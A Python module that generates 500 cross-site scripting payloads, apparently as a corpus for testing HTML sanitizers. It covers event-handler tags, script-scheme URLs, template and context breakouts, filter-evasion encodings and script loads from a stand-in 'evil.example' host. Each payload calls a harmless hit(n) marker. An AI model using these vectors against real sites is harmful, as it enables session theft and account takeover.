"""500 texts that try to run as a script, each by another way into a page.

Put together from *what would run* and *how it gets out of where a text stands*: markup of HTML,
SVG and MathML with each event that fires by itself, addresses with a scheme, template
languages, ends of attributes, scripts, styles, comments and JSON, and ways of writing that
filters are known to miss (case, spaces, entities, percent and unicode escapes, NUL-like
characters). Whatever runs calls ``hit(n)`` with the number of its payload.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

WANTED = 500

_EVENTS = {
    "img src=x": ("onerror", "onload"),
    "svg": ("onload",),
    "body": ("onload", "onpageshow", "onhashchange", "onfocus"),
    "video": ("onerror", "onloadstart", "oncanplay"),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror", "onloadstart"),
    "input autofocus": ("onfocus", "onblur"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "button autofocus": ("onfocus",),
    "details open": ("ontoggle",),
    "marquee": ("onstart", "onfinish", "onbounce"),
    "iframe": ("onload",),
    "iframe src=about:blank": ("onload",),
    "object data=x": ("onerror", "onload"),
    "embed src=x": ("onload",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload", "onerror"),
    "script src=x": ("onerror",),
    "svg><animate attributeName=x dur=1ms": ("onbegin", "onend", "onrepeat"),
    "svg><set attributeName=x dur=1ms": ("onbegin", "onend"),
    "svg><image href=x": ("onerror", "onload"),
    "math><mi": ("onfocus",),
    "div style=animation-name:x": ("onanimationstart", "onanimationend"),
    "div style=transition:color_1s": ("ontransitionend", "ontransitionrun"),
    "a href=# tabindex=1 autofocus": ("onfocus",),
    "div contenteditable autofocus tabindex=0": ("onfocus",),
    "p": ("onmouseover", "onpointerenter", "onclick", "onwheel", "onscroll"),
    "dialog open": ("onclose", "oncancel"),
    "source srcset=x": ("onerror",),
    "track src=x": ("onerror",),
    "frameset": ("onload",),
    "isindex": ("onfocus",),
    "x": ("onpaste", "oncopy", "onfocusin", "onauxclick", "onbeforetoggle"),
}
_CALLS = ("hit({n})", "window['hit']({n})", "top.hit`{n}`", "self.hit?.({n})")
_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "--></p>", "]]>")
_ADDRESSES = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", " javascript:{c}",
    "javascript&colon;{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}", "javascript&#58;{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "vbscript:{c}", "blob:{c}", "view-source:javascript:{c}", "//evil.example/{n}.js",
    "https://evil.example/{n}", "feed:javascript:{c}", "jar:javascript:{c}!/", "javascript://%0a{c}",
)  # fmt: skip
_HOLDERS = (
    '<a href="{a}">x</a>', '<iframe src="{a}"></iframe>', '<form action="{a}"><button autofocus>',
    '<object data="{a}"></object>', '<embed src="{a}">', '<base href="{a}">', '<area href="{a}">',
    '<button formaction="{a}">', '<svg><a xlink:href="{a}"><text>x</text></a></svg>',
    '<math href="{a}">x</math>', '<meta http-equiv=refresh content="0;url={a}">',
    '<link rel=import href="{a}">', '<img src="{a}">', '<script src="{a}"></script>', "{a}",
)  # fmt: skip
_TEMPLATES = (
    "${{{c}}}", "`${{{c}}}`", "`+{c}+`", "';{c};//", '";{c};//', "\\';{c};//", "</script><script>{c}//",
    "{{{{{c}}}}}", "{{{{constructor.constructor('{c}')()}}}}", "{{{{[].map.constructor('{c}')()}}}}",
    "{{% raw %}}{{{{{c}}}}}", "<%= {c} %>", "#{{{c}}}", "[[{c}]]", "{{{{= {c} }}}}", "@({c})",
    "*/{c}/*", "-->{c}<!--", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "%3Cscript%3E{c}%3C/script%3E",
    "&lt;script&gt;{c}&lt;/script&gt;", "&amp;lt;script&amp;gt;{c}", "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "＜script＞{c}＜/script＞", "‹script›{c}‹/script›",
    "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<script\t>{c}</script\t>", "<script/x>{c}</script>",
    "<<script>{c}//<</script>", "<scr<script>ipt>{c}</scr</script>ipt>", "<script>{c}", "<script\n>{c}",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<svg><script>{c}</script></svg>",
    "<svg><style><img src=x onerror={c}></style></svg>", "<math><style><img src=x onerror={c}>",
    "<template><script>{c}</script></template>", "<![CDATA[<script>{c}</script>]]>",
    "<!--><script>{c}</script>", "<?xml version='1.0'?><script>{c}</script>",
    "<style>@import'javascript:{c}';</style>", "<style>*{{background:url(javascript:{c})}}</style>",
    "<div style=\"background:url('javascript:{c}')\">", "<div style=width:expression({c})>",
    "<xml:namespace prefix=t><import namespace=t>{c}", "<form id=test><input name=innerHTML value='{c}'>",
    "<img id=config name=config><a id=L href=javascript:{c}>", "__proto__[x]={c}",
    '{{"__proto__":{{"innerHTML":"<img src=x onerror={c}>"}}}}', "<svg/onload={c}>", "<svg\nonload={c}>",
    "<img src=x onerror\t=\t{c}>", "<img src=x OnErRoR={c}>", "<img/src=x/onerror={c}>",
    "<img src=x onerror=&#104;it({n})>", "<img src=x onerror=hit&lpar;{n}&rpar;>",
    "<img src=x onerror=\\u0068it({n})>", "<img src='x' onerror='{c}' ", "<image src=x onerror={c}>",
    "<p>\u2028<img src=x onerror={c}>", "<p>\u202e<img src=x onerror={c}>", "\ufeff<script>{c}</script>",
    "<b onmouseover={c} style=position:fixed;inset:0>x</b>", "<popover-x popover ontoggle={c}>",
    "<video><source onerror={c}></video>", "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'>",
    "<iframe srcdoc='&lt;script&gt;{c}&lt;/script&gt;'>", "<portal src=javascript:{c}>",
    "<applet code=javascript:{c}>", "<bgsound src=javascript:{c}>", "<layer src=javascript:{c}>",
)  # fmt: skip


def _made() -> Iterator[str]:
    """Patterns with ``{n}`` for the number; other braces are doubled."""
    for template, call in product(_TEMPLATES, _CALLS[:2]):
        yield template.replace("{c}", call)
    for number, (tag, events) in enumerate(_EVENTS.items()):
        for event, call in product(events, _CALLS[:2]):
            yield f"{_BREAKS[number % len(_BREAKS)]}<{tag} {event}={call}>"
        yield f'{_BREAKS[(number + 3) % len(_BREAKS)]}<{tag} {events[0]}="{_CALLS[3]}" '
    for number, (holder, address) in enumerate(product(_HOLDERS, _ADDRESSES)):
        filled = holder.replace("{a}", address)
        yield filled.replace("{c}", _CALLS[number % len(_CALLS)])


def payloads() -> list[str]:
    """The texts, all different; each fits a description of 2,000 characters."""
    found: dict[str, None] = {}
    for pattern in _made():
        found.setdefault(pattern.format(n=len(found)), None)
    return list(found)[:WANTED]
